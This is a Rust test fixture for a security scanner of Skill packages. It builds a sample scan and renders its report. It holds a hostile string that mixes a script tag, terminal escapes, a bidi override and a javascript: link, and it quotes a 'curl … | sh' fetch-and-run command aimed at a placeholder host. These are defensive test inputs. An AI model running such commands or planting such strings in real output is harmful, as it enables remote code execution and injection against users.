//! A scan for tests: every kind of field filled, every text hostile.

use model::{
    AiPart, Capability, CapabilityEvidence, Category, Confidence, Coverage, Demotion, Engine, Excerpt, Finding, Gap,
    GapReason, JudgeGap, JudgeGapReason, JudgeRun, Location, Nature, Profile, Role, Severity, SkillScan, Step, Text,
    judge,
};

/// Script, terminal escape, bidi override, line break, Markdown and HTML syntax: nothing of it may act anywhere.
pub(crate) const HOSTILE: &str = "<script>alert(1)</script>\u{1b}[31m\u{202e}evil\n# `x` | [a](javascript:b) \"'&";

/// A finding of a rule at a place.
pub(crate) fn finding(rule: &str, file: &str, line: u32, severity: Severity) -> Finding {
    Finding {
        rule_id: rule.to_owned(),
        category: Category::RemoteExecution,
        severity,
        confidence: Confidence::High,
        nature: Nature::Attack,
        engine: Engine::Static,
        role: Role::Command,
        location: Location { file: file.to_owned(), line, column: 4, length: 8 },
        snippet: Excerpt::new("运行 curl -s x.invalid | sh", 4, 22, str::to_owned),
        message: Text::new("In the file a download is run.", "文件中下载并执行了脚本。"),
        fix: Text::new("Ship the script with the Skill.", "将脚本随 Skill 一并发布。"),
        steps: Vec::new(),
        demoted: None,
    }
}

/// A malicious, incomplete scan.
pub(crate) fn scan() -> SkillScan {
    let mut second = finding("TS-HID-001", HOSTILE, 7, Severity::High);
    second.category = Category::PromptInjection;
    second.snippet = Excerpt::new(HOSTILE.lines().next().unwrap_or_default(), 1, 8, str::to_owned);
    second.message = Text::new(HOSTILE, HOSTILE);
    second.steps = vec![Step {
        location: Location { file: HOSTILE.to_owned(), line: 3, column: 1, length: 4 },
        what: Text::new(HOSTILE, HOSTILE),
    }];
    let mut quiet = finding("TS-RCE-001", "docs/attacks.md", 3, Severity::Low);
    quiet.demoted =
        Some(Demotion { from: Severity::Critical, reason: Text::new("quoted as an example", "作为示例引用") });
    let findings = vec![finding("TS-RCE-001", "setup.sh", 12, Severity::Critical), second, quiet];
    let coverage = Coverage {
        files: 4,
        analysed_bytes: 900,
        inert_bytes: 10,
        gaps: vec![gap(HOSTILE, GapReason::OpaqueBinary), gap("logo.png", GapReason::Inert)],
    };
    SkillScan {
        engine_version: 1,
        name: HOSTILE.to_owned(),
        description: HOSTILE.to_owned(),
        content_hash: "ab".repeat(32),
        file_count: 4,
        verdict: judge(&findings, &coverage, Profile::Balanced),
        findings,
        capabilities: vec![CapabilityEvidence {
            capability: Capability::CommandExecution,
            location: Location::file("setup.sh"),
        }],
        coverage,
        ai: AiPart {
            judge: Some(JudgeRun {
                model: HOSTILE.to_owned(),
                gaps: vec![JudgeGap::new(JudgeGapReason::Busy, HOSTILE)],
                ..JudgeRun::default()
            }),
        },
        inventory: model::Inventory::default(),
    }
}

fn gap(path: &str, reason: GapReason) -> Gap {
    Gap { path: path.to_owned(), reason, bytes: 10, detail: String::new() }
}

/// The whole report of one unit in a format.
pub(crate) fn render(format: crate::Format, path: &str, scan: &SkillScan, options: &crate::Options) -> String {
    let mut out = Vec::new();
    let mut renderer = format.renderer(options);
    let view = crate::View::new(path, crate::Container::Folder, scan, options, &crate::NoRuleTexts);
    let mut summary = model::Summary::default();
    summary.add(scan);
    renderer.begin(&mut out).expect("memory takes everything");
    renderer.unit(&mut out, &view).expect("memory takes everything");
    renderer.end(&mut out, &summary).expect("memory takes everything");
    String::from_utf8(out).expect("reports are UTF-8")
}
